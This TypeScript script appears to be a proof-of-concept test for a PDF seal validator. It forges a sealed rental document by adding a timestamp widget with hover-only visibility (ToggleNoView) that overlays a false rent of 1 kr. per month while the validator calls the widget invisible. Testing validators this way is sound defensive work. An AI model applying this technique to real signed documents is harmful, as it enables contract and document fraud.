// V1 (W3b: every change a reader sees after the seal): a document timestamp (the one kind of revision DocMDP P=1
// allows) whose widget is "invisible" by rules.ts `isInvisible` (NoView without Print) but also has ToggleNoView
// (ISO 32000-1 Table 165, bit 9: "invert the interpretation of the NoView flag for certain events. A typical use is
// to have an annotation that appears only when a mouse cursor is held over it"). Its /Rect lies on page 1's rent
// line and its appearance paints a white box with "Husleje: 1 kr. pr. maaned". Acrobat shows it while the mouse is
// on the line; sealcheck calls the widget invisible, the revision long-term-validation data.
//   npx tsx scripts/attack-s8b/ltv-toggle-noview.ts [toggle|honest]
// honest: the same widget with NoView alone (F 32): what rules.ts means by invisible; no reader shows it.
import { readFileSync } from "node:fs";
import { PDFContext } from "pdf-lib";
import { pki, save, tool, verify, work } from "../attack36/lib.js";
import { addDocumentTimestamp } from "../generator/attacks.js";

const mode = process.argv[2] ?? "toggle";
if (!["toggle", "honest"].includes(mode)) throw new Error(`mode: toggle|honest, not ${mode}`);
const P = pki();
const base = new Uint8Array(readFileSync("samples/valid/archive.pdf"));
// addDocumentTimestamp's visible widget is F 4 (Print) at a fixed /Rect: its flags and place changed as pdf-lib makes
// the widget dictionary (PDFContext.obj patched for this one call).
const obj0 = PDFContext.prototype.obj;
PDFContext.prototype.obj = function (this: PDFContext, literal: unknown) {
  const l = literal as Record<string, unknown> | null;
  if (l && typeof l === "object" && !Array.isArray(l) && l.Subtype === "Widget" && l.FT === "Sig" && l.AP) {
    PDFContext.prototype.obj = obj0;
    return obj0.call(this, { ...l, F: mode === "toggle" ? 32 | 256 : 32, Rect: [55, 634, 395, 664] } as never);
  }
  return obj0.call(this, literal as never);
} as typeof obj0;
const pdf = await addDocumentTimestamp(base, P, new Date("2025-12-09T10:00:00Z"), "Husleje: 1 kr. pr. maaned");
PDFContext.prototype.obj = obj0;
const dir = work(`s8b-v1-${mode}`);
const file = save(dir, "archive.pdf", pdf);
console.log(
  `wrote ${file} (${mode}): samples/valid/archive.pdf + a document timestamp whose widget has F ${mode === "toggle" ? "288 (NoView | ToggleNoView)" : "32 (NoView)"}`,
);
console.log(
  `== pdfsig:\n${tool("pdfsig", [file])
    .split("\n")
    .filter((l) => /Signature #|Field Name|Signature Type|Total document|Validation/.test(l))
    .join("\n")}`,
);
const v = verify(file);
const m = v.report.checks.find((c) => c.id === "seal-modifications");
console.log(`== sealcheck verify --json: ${v.indication}${v.subIndication ? ` / ${v.subIndication}` : ""}, exit ${v.exit}`);
console.log(`   seal-modifications ${m?.status}: ${m?.message}`);
const r = v.report as unknown as { pdfSignatures?: { field: string; status: string; message: string }[] };
for (const s of r.pdfSignatures ?? []) console.log(`   ${s.field}: ${s.status}: ${s.message.slice(0, 200)}`);
// What the hover shows: the same file with the widget's /F 288 read as viewable (/F 4, same length; the timestamp no
// longer verifies there, it is only for the picture), page 1 rendered by pdftoppm.
const shown = Buffer.from(pdf)
  .toString("latin1")
  .replace(/\/F (288|32)\n\/Rect \[ 55 634 395 664 \]/, (m, f: string) => m.replace(`/F ${f}`, `/F ${"4".padStart(f.length)}`));
const shownFile = save(dir, "as-hovered.pdf", Buffer.from(shown, "latin1"));
tool("pdftoppm", ["-f", "1", "-l", "1", "-r", "60", "-png", shownFile, `${dir}/as-hovered`]);
tool("pdftoppm", ["-f", "1", "-l", "1", "-r", "60", "-png", file, `${dir}/as-opened`]);
console.log(
  `== page 1 as opened (poppler: NoView): ${dir}/as-opened-1.png; while the mouse is on the rent line (Acrobat, ToggleNoView): ${dir}/as-hovered-1.png`,
);
